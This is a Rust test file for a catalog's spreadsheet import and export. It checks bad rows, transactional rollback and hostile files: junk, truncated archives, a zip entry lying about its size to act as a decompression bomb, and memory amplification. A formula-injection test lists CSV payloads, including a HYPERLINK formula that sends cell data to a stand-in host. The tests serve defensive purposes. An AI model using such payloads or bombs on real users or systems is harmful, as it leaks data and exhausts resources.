//! Tests of the spreadsheet import as the issue asks: a real `.xlsx` and a
//! `.csv` of 200 rows with 3 bad ones, applied in one transaction, re-imported,
//! changed, exported and imported back; and hostile files (junk, truncated,
//! lying zip entries, huge dimensions, too many rows, too many bytes), each a
//! clear error with nothing written.

use std::io::{Read, Write};
use std::path::Path;

use rust_xlsxwriter::Workbook;
use telecenter_protocol::limits::{SHEET_BYTES_MAX, SHEET_ROWS_MAX};
use tempfile::TempDir;

use super::super::Node;
use crate::node::NodeError;
use crate::sheet::{Format, ImportPlan, SheetError, export_csv, export_xlsx};

/// 2025-11-23.
const T0: i64 = 1_763_860_000_000;

const HEADER: [&str; 9] = [
    "Kode",
    "Judul",
    "Harga",
    "Satuan",
    "Stok",
    "Kategori",
    "Produsen",
    "Deskripsi",
    "Status",
];

/// Spreadsheet lines (header = 1) of the three bad rows, and their messages.
const BAD: [(usize, &str); 3] = [
    (14, "harga 'lima ribu' bukan angka"),
    (77, "kategori 'mainan' tidak dikenal"),
    (150, "judul kosong"),
];

/// One cell of a test sheet: text, or a number for `.xlsx`.
#[derive(Clone)]
enum Value {
    Text(String),
    Number(f64),
}

/// The 200 data rows (lines 2..=201), three of them bad; `price_of` sets
/// each row's price.
fn sheet_rows(price_of: impl Fn(usize) -> i64) -> Vec<Vec<Value>> {
    (1..=200)
        .map(|k| {
            let line = k + 1;
            let text = |s: &str| Value::Text(s.to_owned());
            let price = if line == BAD[0].0 {
                text("lima ribu")
            } else {
                Value::Number(price_of(k) as f64)
            };
            let category = if line == BAD[1].0 {
                "mainan"
            } else {
                "Makanan"
            };
            let title = if line == BAD[2].0 {
                String::new()
            } else {
                format!("Keripik tempe rasa {k}")
            };
            vec![
                Value::Text(format!("KT-{k:03}")),
                Value::Text(title),
                price,
                text("bungkus"),
                Value::Number((k % 7) as f64),
                text(category),
                text("Bu Sri"),
                Value::Text(format!("Keripik renyah nomor {k}.")),
                text(if k % 10 == 0 { "nonaktif" } else { "aktif" }),
            ]
        })
        .collect()
}

fn default_price(k: usize) -> i64 {
    1_000 + 500 * i64::try_from(k).unwrap()
}

fn csv_bytes(rows: &[Vec<Value>]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .flexible(true)
        .from_writer(Vec::new());
    writer.write_record(HEADER).unwrap();
    for row in rows {
        writer
            .write_record(row.iter().map(|v| match v {
                Value::Text(t) => t.clone(),
                Value::Number(n) => format!("{n}"),
            }))
            .unwrap();
    }
    writer.into_inner().unwrap()
}

fn xlsx_bytes(rows: &[Vec<Value>]) -> Vec<u8> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in HEADER.iter().enumerate() {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    for (r, row) in rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            let (r, c) = (r as u32 + 1, c as u16);
            match v {
                Value::Text(t) if t.is_empty() => {}
                Value::Text(t) => {
                    sheet.write_string(r, c, t).unwrap();
                }
                Value::Number(n) => {
                    sheet.write_number(r, c, *n).unwrap();
                }
            }
        }
    }
    book.save_to_buffer().unwrap()
}

fn node(dir: &Path) -> Node {
    crate::testing::malang(dir, T0)
}

/// (listings this center holds, recorded keys, stored catalog changes), read
/// from the database file through a second connection.
fn on_disk(dir: &Path) -> (i64, i64, i64) {
    let conn = rusqlite::Connection::open(dir.join("node.db")).unwrap();
    let count = |sql: &str| conn.query_row(sql, [], |r| r.get::<_, i64>(0)).unwrap();
    (
        count("SELECT count(*) FROM listings"),
        count("SELECT count(*) FROM listing_keys"),
        count("SELECT count(*) FROM changes"),
    )
}

fn counts(plan: &ImportPlan) -> (usize, usize, usize, usize) {
    (
        plan.create.len(),
        plan.update.len(),
        plan.unchanged,
        plan.errors.len(),
    )
}

fn assert_bad_rows(plan: &ImportPlan) {
    let lines: Vec<usize> = plan.errors.iter().map(|e| e.line).collect();
    assert_eq!(lines, BAD.map(|(l, _)| l).to_vec(), "{:?}", plan.errors);
    for (error, (line, message)) in plan.errors.iter().zip(BAD) {
        let shown = error.to_string();
        assert!(
            shown.starts_with(&format!("baris {line}: {message}")),
            "{shown}"
        );
    }
}

/// The whole story for one format: preview, apply, re-import, one price
/// changed, export in both formats and import back.
fn import_story(format: Format, build: fn(&[Vec<Value>]) -> Vec<u8>) {
    let dir = TempDir::new().unwrap();
    let node = node(dir.path());
    let before = on_disk(dir.path());
    let file = build(&sheet_rows(default_price));

    let plan = node.import_plan(format, &file).unwrap();
    assert_eq!(counts(&plan), (197, 0, 0, 3));
    assert_bad_rows(&plan);
    assert_eq!(on_disk(dir.path()), before, "a preview writes nothing");

    let outcome = node.import_listings(&plan).unwrap();
    assert_eq!((outcome.created, outcome.updated), (197, 0));
    let (listings, keys, _) = on_disk(dir.path());
    assert_eq!((listings, keys), (before.0 + 197, 197));
    let exported = node.export_listings().unwrap();
    assert_eq!(exported.len(), 197);
    let (key, listing) = &exported[0];
    assert_eq!(key, "KT-001");
    assert_eq!(listing.price_idr, 1_500);
    assert_eq!(listing.producer, "Bu Sri");
    let hidden = exported
        .iter()
        .filter(|(_, l)| l.status == telecenter_protocol::catalog::ListingStatus::Hidden)
        .count();
    assert_eq!(hidden, 20, "every tenth row is nonaktif");

    // The same file again: nothing to do.
    let again = node.import_plan(format, &file).unwrap();
    assert_eq!(counts(&again), (0, 0, 197, 3));
    let disk = on_disk(dir.path());
    assert_eq!(
        node.import_listings(&again).unwrap(),
        Default::default(),
        "re-import changes nothing"
    );
    assert_eq!(on_disk(dir.path()), disk);

    // One price changed in the file: exactly one update, with the new price.
    let changed = build(&sheet_rows(
        |k| {
            if k == 42 { 99_000 } else { default_price(k) }
        },
    ));
    let plan = node.import_plan(format, &changed).unwrap();
    assert_eq!(counts(&plan), (0, 1, 196, 3));
    let update = &plan.update[0];
    assert_eq!((update.line, update.key.as_str()), (43, "KT-042"));
    assert_eq!(update.patch.price_idr, Some(99_000));
    assert_eq!(update.patch.title, None);
    node.import_listings(&plan).unwrap();
    let row = node.own_listing(&update.id).unwrap();
    assert_eq!(row.listing.price_idr, 99_000);
    let (listings, keys, _) = on_disk(dir.path());
    assert_eq!((listings, keys), (before.0 + 197, 197));

    // Export → import round-trips, both formats.
    let rows = node.export_listings().unwrap();
    let view: Vec<_> = rows.iter().map(|(k, l)| (k.as_str(), l)).collect();
    for (format, bytes) in [
        (Format::Csv, export_csv(&view).unwrap()),
        (Format::Xlsx, export_xlsx(&view).unwrap()),
    ] {
        let plan = node.import_plan(format, &bytes).unwrap();
        assert_eq!(
            counts(&plan),
            (0, 0, 197, 0),
            "{format:?}: {:?}",
            plan.errors
        );
    }
}

#[test]
fn xlsx_of_200_rows_with_3_bad_previews_them_and_applies_197() {
    import_story(Format::Xlsx, xlsx_bytes);
}

#[test]
fn csv_of_200_rows_with_3_bad_previews_them_and_applies_197() {
    import_story(Format::Csv, csv_bytes);
}

/// A failure at the very end of the commit (the last key row) leaves nothing:
/// no listing, no key, no change, and the catalog in memory as on disk.
#[test]
fn import_is_one_transaction_a_failure_at_the_last_key_leaves_nothing() {
    let dir = TempDir::new().unwrap();
    let node = node(dir.path());
    let before = on_disk(dir.path());
    let plan = node
        .import_plan(Format::Csv, &csv_bytes(&sheet_rows(default_price)))
        .unwrap();
    assert_eq!(plan.create.len(), 197);
    let conn = rusqlite::Connection::open(dir.path().join("node.db")).unwrap();
    conn.execute_batch(
        "CREATE TRIGGER fail_last_key BEFORE INSERT ON listing_keys
         WHEN NEW.key = 'KT-200' BEGIN SELECT RAISE(ABORT, 'injected'); END;",
    )
    .unwrap();
    let error = node.import_listings(&plan).unwrap_err();
    assert!(matches!(error, NodeError::Store(_)), "{error:?}");
    assert_eq!(on_disk(dir.path()), before);
    assert!(
        node.export_listings().unwrap().is_empty(),
        "memory reloaded"
    );

    conn.execute_batch("DROP TRIGGER fail_last_key").unwrap();
    let outcome = node.import_listings(&plan).unwrap();
    assert_eq!(outcome.created, 197);
    assert_eq!(node.export_listings().unwrap().len(), 197);
}

/// Every hostile file is one clear error and leaves the database as it was.
fn refused(format: Format, bytes: &[u8]) -> SheetError {
    let dir = TempDir::new().unwrap();
    let node = node(dir.path());
    let before = on_disk(dir.path());
    let error = match node.import_plan(format, bytes) {
        Err(NodeError::Sheet(e)) => e,
        other => panic!("expected a sheet error, got {other:?}"),
    };
    assert!(!error.to_string().contains('\n'), "one line: {error}");
    assert_eq!(on_disk(dir.path()), before);
    error
}

fn junk(len: usize) -> Vec<u8> {
    // A fixed xorshift: the same junk every run.
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect()
}

#[test]
fn random_bytes_are_unreadable_in_either_format() {
    let bytes = junk(64 * 1024);
    assert!(matches!(
        refused(Format::Xlsx, &bytes),
        SheetError::Unreadable { .. }
    ));
    assert!(matches!(
        refused(Format::Csv, &bytes),
        SheetError::Unreadable { .. }
    ));
}

#[test]
fn truncated_xlsx_is_unreadable() {
    let file = xlsx_bytes(&sheet_rows(default_price));
    for cut in [file.len() / 2, file.len() - 10, 30] {
        assert!(
            matches!(
                refused(Format::Xlsx, &file[..cut]),
                SheetError::Unreadable { .. }
            ),
            "cut at {cut}"
        );
    }
}

#[test]
fn csv_of_10_mb_is_too_large() {
    let mut bytes = csv_bytes(&sheet_rows(default_price));
    bytes.resize(10 * 1024 * 1024, b' ');
    assert_eq!(
        refused(Format::Csv, &bytes),
        SheetError::TooLarge {
            bytes: bytes.len(),
            max: SHEET_BYTES_MAX
        }
    );
}

#[test]
fn more_rows_than_the_limit_are_refused() {
    let rows: Vec<Vec<Value>> = (1..=SHEET_ROWS_MAX + 1)
        .map(|k| {
            vec![
                Value::Text(format!("K{k}")),
                Value::Text("Teh".to_owned()),
                Value::Number(1000.0),
            ]
        })
        .collect();
    for (format, bytes) in [
        (Format::Csv, csv_bytes(&rows)),
        (Format::Xlsx, xlsx_bytes(&rows)),
    ] {
        assert_eq!(
            refused(format, &bytes),
            SheetError::TooManyRows {
                max: SHEET_ROWS_MAX
            }
        );
    }
}

const SHEET_ENTRY: &str = "xl/worksheets/sheet1.xml";

/// `xlsx` with its first sheet's XML replaced by `change(old)`.
fn with_sheet(xlsx: &[u8], change: impl Fn(String) -> String) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for index in 0..archive.len() {
        let mut entry = archive.by_index(index).unwrap();
        let name = entry.name().unwrap().into_owned();
        let mut data = Vec::new();
        entry.read_to_end(&mut data).unwrap();
        if name == SHEET_ENTRY {
            data = change(String::from_utf8(data).unwrap()).into_bytes();
        }
        out.start_file(name, options).unwrap();
        out.write_all(&data).unwrap();
    }
    out.finish().unwrap().into_inner()
}

/// Sets the declared uncompressed size of `entry` to `size` in its local header
/// and its central directory record.
fn lie_about_size(zip: &mut [u8], entry: &str, size: u32) {
    let name = entry.as_bytes();
    let mut patched = 0;
    for at in 0..zip.len().saturating_sub(46) {
        let (signature, name_at, size_at) = match &zip[at..at + 4] {
            b"PK\x03\x04" => (true, 30, 22),
            b"PK\x01\x02" => (true, 46, 24),
            _ => (false, 0, 0),
        };
        if !signature || zip.len() < at + name_at + name.len() {
            continue;
        }
        let len_at = if name_at == 30 { at + 26 } else { at + 28 };
        let name_len = u16::from_le_bytes([zip[len_at], zip[len_at + 1]]) as usize;
        if name_len == name.len() && &zip[at + name_at..at + name_at + name_len] == name {
            zip[at + size_at..at + size_at + 4].copy_from_slice(&size.to_le_bytes());
            patched += 1;
        }
    }
    assert_eq!(patched, 2, "local header and central record");
}

/// A sheet entry that declares 2 KiB but inflates to 16 MiB: the archive
/// check passes on the declared sizes, and reading stops at the declared
/// size instead of inflating the rest.
#[test]
fn xlsx_entry_lying_about_its_size_stops_at_the_declared_bound() {
    let real = xlsx_bytes(&sheet_rows(default_price));
    let padding = " ".repeat(16 * 1024 * 1024);
    let mut bomb = with_sheet(&real, |xml| {
        xml.replacen("<sheetData>", &format!("<sheetData>{padding}"), 1)
    });
    assert!(bomb.len() < SHEET_BYTES_MAX, "{} bytes", bomb.len());
    lie_about_size(&mut bomb, SHEET_ENTRY, 2048);
    let error = refused(Format::Xlsx, &bomb);
    assert!(
        matches!(&error, SheetError::Unreadable { reason, .. } if reason.contains("declared")),
        "{error:?}"
    );
}

/// A sheet claiming every cell Excel can address allocates nothing for the
/// empty ones and reads as the rows it really has.
#[test]
fn xlsx_claiming_a_huge_dimension_reads_only_its_cells() {
    let real = xlsx_bytes(&sheet_rows(default_price));
    let huge = with_sheet(&real, |xml| {
        let start = xml.find("<dimension ").expect("a dimension");
        let end = start + xml[start..].find("/>").unwrap() + 2;
        format!(
            "{}<dimension ref=\"A1:XFD1048576\"/>{}",
            &xml[..start],
            &xml[end..]
        )
    });
    let dir = TempDir::new().unwrap();
    let node = node(dir.path());
    let plan = node.import_plan(Format::Xlsx, &huge).unwrap();
    assert_eq!(counts(&plan), (197, 0, 0, 3));
}

/// A file whose creates would pass the catalog cap is refused as a whole, with
/// one plan-level error, before anything is written; updates still plan.
#[test]
fn creates_beyond_the_catalog_cap_are_refused_before_anything_is_written() {
    use telecenter_protocol::limits::LISTINGS_PER_CATALOG_MAX;
    let dir = TempDir::new().unwrap();
    let node = node(dir.path());
    let batch = SHEET_ROWS_MAX;
    let file = |from: usize, count: usize| {
        let rows: Vec<Vec<Value>> = (from..from + count)
            .map(|k| {
                vec![
                    Value::Text(format!("K{k}")),
                    Value::Text("Teh".to_owned()),
                    Value::Number(1000.0),
                    Value::Text("bungkus".to_owned()),
                    Value::Number(0.0),
                    Value::Text("minuman".to_owned()),
                ]
            })
            .collect();
        csv_bytes(&rows)
    };
    // Fill the catalog to one below the cap.
    let mut have = 0;
    while have < LISTINGS_PER_CATALOG_MAX - 1 {
        let count = batch.min(LISTINGS_PER_CATALOG_MAX - 1 - have);
        let plan = node.import_plan(Format::Csv, &file(have, count)).unwrap();
        node.import_listings(&plan).unwrap();
        have += count;
    }
    let disk = on_disk(dir.path());
    let plan = node
        .import_plan(Format::Csv, &file(have - 1, 3))
        .unwrap_err();
    let NodeError::Sheet(error) = plan else {
        panic!("{plan:?}")
    };
    assert_eq!(
        error,
        SheetError::CatalogFull {
            listings: LISTINGS_PER_CATALOG_MAX - 1,
            creating: 2,
            max: LISTINGS_PER_CATALOG_MAX
        }
    );
    assert_eq!(error.code(), "sheet_catalog_full");
    assert_eq!(on_disk(dir.path()), disk);
    // One more fits exactly; a file of known codes only still plans.
    let plan = node.import_plan(Format::Csv, &file(have - 1, 2)).unwrap();
    assert_eq!(counts(&plan), (1, 0, 1, 0));
    node.import_listings(&plan).unwrap();
    assert!(node.import_plan(Format::Csv, &file(0, 5)).is_ok());
}

/// A title, producer or description that a spreadsheet would run as a formula
/// leaves the CSV export as text (`'` in front) and imports back unchanged.
#[test]
fn listing_csv_export_defuses_formulas() {
    let dir = TempDir::new().unwrap();
    let node = node(dir.path());
    let text = |s: &str| Value::Text(s.to_owned());
    let hostile = [
        "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"klik\")",
        "+62 812 pedas",
        "@SUM(1+1)",
        "-pedas manis",
    ];
    let rows: Vec<Vec<Value>> = hostile
        .iter()
        .enumerate()
        .map(|(k, h)| {
            vec![
                text(&format!("F-{k}")),
                text(h),
                Value::Number(15_000.0),
                text("bungkus"),
                Value::Number(3.0),
                text("Makanan"),
                text(h),
                text(h),
                text("aktif"),
            ]
        })
        .collect();
    let plan = node.import_plan(Format::Csv, &csv_bytes(&rows)).unwrap();
    assert_eq!(counts(&plan), (4, 0, 0, 0), "{:?}", plan.errors);
    node.import_listings(&plan).unwrap();

    let exported = node.export_listings().unwrap();
    let view: Vec<_> = exported.iter().map(|(k, l)| (k.as_str(), l)).collect();
    let bytes = export_csv(&view).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes.as_slice());
    let mut seen = 0;
    for record in reader.records() {
        for field in record.unwrap().iter() {
            assert!(
                !field.starts_with(['=', '+', '-', '@']),
                "a spreadsheet would run {field:?}"
            );
            seen += usize::from(field.starts_with('\''));
        }
    }
    assert!(seen >= 12, "{seen} guarded cells");
    // The guard comes off on the way back in: nothing changes.
    let plan = node.import_plan(Format::Csv, &bytes).unwrap();
    assert_eq!(counts(&plan).0 + counts(&plan).1 + counts(&plan).3, 0);
    assert!(plan.errors.is_empty(), "{:?}", plan.errors);
    for (_, listing) in &exported {
        assert!(hostile.contains(&listing.title.id.as_str()));
    }
}

/// One 2 000-character shared string named by every cell of 2 000 rows × 32
/// columns: a small file, but before the bound it was read into 64 000 copies
/// (128 MB). Now it stops at the text bound, with nothing written.
#[test]
fn xlsx_shared_strings_cannot_amplify_memory() {
    let long = "x".repeat(telecenter_protocol::limits::SHEET_CELL_CHARS_MAX);
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for row in 0..=SHEET_ROWS_MAX as u32 {
        for col in 0..telecenter_protocol::limits::SHEET_COLUMNS_MAX as u16 {
            sheet.write_string(row, col, &long).unwrap();
        }
    }
    let bytes = book.save_to_buffer().unwrap();
    assert!(bytes.len() < SHEET_BYTES_MAX / 10, "{} bytes", bytes.len());
    let error = refused(Format::Xlsx, &bytes);
    assert_eq!(error.code(), "sheet_text_too_large", "{error}");
}
